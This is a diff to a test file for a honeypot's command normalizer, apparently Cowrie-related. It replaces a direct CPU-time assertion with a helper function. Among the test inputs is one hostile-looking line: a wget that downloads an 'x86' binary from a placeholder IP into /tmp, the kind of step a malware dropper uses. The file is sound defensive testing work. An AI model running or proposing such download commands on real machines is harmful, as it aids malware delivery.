@@ -1,7 +1,6 @@
 """The normal form: what varies is folded, what a command does stays readable, a normal form is its own."""
 
 import re
-import time
 from pathlib import Path
 
 import pytest
@@ -9,6 +8,7 @@ from hypothesis import given, settings
 from hypothesis import strategies as st
 
 from cowrie_assets.cowrie.normalize import CUT, FOLDS, MAX_CHARACTERS, normalize_command
+from cowrie_assets_tests.cpu_time import least_cpu_seconds
 
 EXPECTED = {
     "wget  http://192.0.2.14/x86?id=1&v=2 -O\t/tmp/a": "wget <url> -O /tmp/a",
@@ -131,9 +131,7 @@ def test_a_long_command_is_cut_with_a_mark():
     ],
 )
 def test_a_megabyte_is_folded_within_a_second(unit):
-    start = time.process_time()
-    normalize_command(unit * (1_000_000 // len(unit)))
-    assert time.process_time() - start < 1
+    assert least_cpu_seconds(lambda: normalize_command(unit * (1_000_000 // len(unit))), 1) < 1
 
 
 def test_the_documents_rules_are_the_codes_in_order():
